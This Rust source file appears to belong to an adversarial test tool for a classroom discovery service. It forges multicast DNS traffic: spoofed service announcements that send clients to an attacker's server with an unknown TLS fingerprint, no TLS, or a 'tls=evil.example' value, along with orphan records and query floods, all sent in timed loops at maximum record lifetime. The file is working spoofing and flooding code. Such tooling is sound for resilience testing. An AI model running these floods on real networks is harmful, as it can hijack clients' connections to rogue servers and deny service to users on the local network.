//! Attacks by multicast DNS (RFC 6762): forged announcements of the room, records that nobody asked for, and queries.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use super::Tally;
use super::udp::Flood;

/// The group and the port of multicast DNS.
pub const GROUP: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(224, 0, 0, 251), 5_353);

/// The service that classrooms announce.
const SERVICE: &str = "_classroom._tcp.local";

/// The types of records (RFC 1035, 3.2.2; RFC 2782).
const A: u16 = 1;
const PTR: u16 = 12;
const TXT: u16 = 16;
const SRV: u16 = 33;

/// The lifetime of a record in seconds: the longest possible.
const TTL: u32 = 0x7fff_ffff;

/// The time for which a thread sends between two checks for its end.
const SLICE: Duration = Duration::from_millis(200);

/// A message of an attacker.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Message {
    /// The attacker's own server for the room, with an identity that nobody knows, or without TLS.
    Announcement,
    /// The records of a service without the pointer to it, each time of another service.
    Orphan,
    /// A question for all classrooms.
    Query,
}

/// A socket of this address that sends multicast DNS as a responder does.
///
/// # Errors
/// If the kernel refuses it.
pub fn socket(from: Ipv4Addr) -> io::Result<UdpSocket> {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::DGRAM, None)?;
    socket.set_reuse_address(true)?;
    socket.set_reuse_port(true)?;
    socket.bind(&SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, GROUP.port()).into())?;
    socket.set_multicast_if_v4(&from)?;
    socket.set_multicast_ttl_v4(255)?;
    Ok(socket.into())
}

/// Sends messages of one kind. The announced server is at `server`. Aborting the task ends the flood within [`SLICE`].
pub async fn flood(socket: UdpSocket, message: Message, server: SocketAddrV4, flood: Flood) -> Tally {
    let (socket, end, mut sent) = (Arc::new(socket), Instant::now() + flood.lasts, 0);
    while Instant::now() < end {
        let (socket, before) = (Arc::clone(&socket), sent);
        let send = move |n: u64| {
            // A full queue of the interface loses a datagram, which belongs to a flood.
            let _ = socket.send_to(&message.bytes(before + n, server), GROUP);
        };
        sent += Flood { lasts: SLICE, ..flood }.run(send).await;
    }
    let mut tally = Tally::default();
    tally.count_many(format!("{message:?}"), sent);
    tally
}

impl Message {
    /// The datagram number `n`.
    fn bytes(self, n: u64, server: SocketAddrV4) -> Vec<u8> {
        let (instance, host) = (format!("room 10013 {n:08x}"), format!("classroom-{n:08x}.local"));
        let service = [label(&instance), name(SERVICE)].concat();
        let tls = match n % 3 {
            // The form of a fingerprint.
            0 => vec![format!("tls=sha256:{n:032x}")],
            1 => vec!["tls=evil.example".to_owned()],
            _ => Vec::new(),
        };
        let texts: Vec<u8> = ["room=10013".to_owned(), "teacher=Ms Li".to_owned()]
            .iter()
            .chain(&tls)
            .flat_map(|text| label(text))
            .collect();
        let port = server.port().to_be_bytes();
        let target = name(&host);
        let of_service = [
            record(&service, SRV, &[&[0, 0, 0, 0][..], &port, &target].concat()),
            record(&service, TXT, &texts),
            record(&target, A, &server.ip().octets()),
        ];
        let pointer = record(&name(SERVICE), PTR, &service);
        match self {
            // The header of a query, and of an authoritative response (RFC 1035, 4.1.1), with the counts of records.
            Self::Query => {
                let question = [&name(SERVICE)[..], &PTR.to_be_bytes(), &[0, 1]].concat();
                [&[0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &question].concat()
            }
            Self::Announcement => {
                [&[0, 0, 0x84, 0, 0, 0, 0, 4, 0, 0, 0, 0][..], &pointer, &of_service.concat()].concat()
            }
            Self::Orphan => [&[0, 0, 0x84, 0, 0, 0, 0, 3, 0, 0, 0, 0][..], &of_service.concat()].concat(),
        }
    }
}

/// A length and the bytes.
fn label(text: &str) -> Vec<u8> {
    [&[text.len() as u8][..], text.as_bytes()].concat()
}

/// A domain name without compression.
fn name(dotted: &str) -> Vec<u8> {
    dotted.split('.').flat_map(label).chain([0]).collect()
}

/// A resource record of class IN.
fn record(name: &[u8], kind: u16, data: &[u8]) -> Vec<u8> {
    [name, &kind.to_be_bytes(), &[0, 1], &TTL.to_be_bytes(), &(data.len() as u16).to_be_bytes(), data].concat()
}
